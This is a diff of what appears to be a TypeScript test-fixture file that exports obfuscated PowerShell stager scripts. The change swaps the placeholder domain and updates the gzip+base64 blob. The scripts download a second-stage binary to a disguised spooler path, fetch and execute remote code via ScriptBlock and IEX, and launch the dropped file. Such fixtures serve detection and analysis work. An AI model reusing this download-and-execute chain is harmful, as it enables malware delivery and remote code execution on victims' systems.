@@ -4,7 +4,7 @@
  */
 export const INNER_SCRIPT = [
   "$c='198.51.100.77'",
-  "$u='https://cdn.harborlight.example/updates/stage2.bin'",
+  "$u='https://cdn.brindlefoss.example.net/updates/stage2.bin'",
   "$p='C:\\ProgramData\\PrintCache\\spoolprep.exe'",
   "New-Item -ItemType Directory -Force 'C:\\ProgramData\\PrintCache' | Out-Null",
   '(New-Object Net.WebClient).DownloadFile($u,$p)',
@@ -19,13 +19,13 @@ export const COMPRESSED_SCRIPT = [
   "$w.Headers.Add('X-Session','b41f')",
   '$r=$w.DownloadString($q)',
   'if($r){Invoke-Command -ScriptBlock ([ScriptBlock]::Create($r))}',
-  "Start-Process 'C:\\ProgramData\\PrintCache\\spoolprep.exe' -ArgumentList '-k cdn.harborlight.example'",
+  "Start-Process 'C:\\ProgramData\\PrintCache\\spoolprep.exe' -ArgumentList '-k cdn.brindlefoss.example.net'",
   '',
 ].join('\n');
 
 /** `COMPRESSED_SCRIPT` through gzip: kept as bytes because compressors differ between releases of Node. */
 export const COMPRESSED_BASE64 =
-  'H4sIAAAAAAACA1VPUUvDMBh876/IQyEtmHQVZVopsnWCgkyhDxOcD2nyrY1tkyz9XAXxvxvf9O2Ou+PuYlHS/PqKX+Y8Xyz4cklv4mNJO0RXZNk/JRNOZ6fzTHYge21utSp3d+tFTqN4Lrcws6fmHSSSLSDfQVMNGgwGjd+DUOAnvlIqoS+shmnS1tAz2lzkB5pGsS+Da2NnM1ihavTatEl8TCN9SGKffj2Yk+2BVXYchVGE1dJrh+vByp4kr3/YW1FUHgTCbyz9jmoUHtmztzJUEloV+4BbL8aNQBGwNliJcGc/OWsH58Fx+ARK2Mq3H2NY/6gnJJT1RCrDO+Eb6wfddhhsYnQD0OgHOLRqckABAAA=';
+  'H4sIAAAAAAACA1WPUUvDMBSF3/sr8lBICyZdRZlWimydoCBT6MME50Oa3G2xbZIl11UQ/7vxTd/O4XyHe08qalpeX/HLkpezGZ/P6U16rOkB0VVF8S8phNPF6byQB5C9Nrda1Zu75aykSTrVa5jYU/cOEskakG+gawYNBmPG70Eo8IEvlMroC2shBG0NPaPdRbmjeZL6OlIrO5nBCtWi12afpcc80bss9fnXgznZHlhjx1EYRVgrvXa4HKzsSfb6x71VVeNBIPzW8u+kReGRPXsr40lCm2ob9d6LcSVQRK0NNiLO2QZn7eA8OA6fQAlb+P3HGL9/1AEJZT2RyvAu8mqAnQ0hYmJ0A3ADSJMfTfvvnkQBAAA=';
 
 export const COMPRESSED_OUTER_SCRIPT = `$z='${COMPRESSED_BASE64}';$m=New-Object IO.MemoryStream(,[Convert]::FromBase64String($z));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($m,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()`;
 
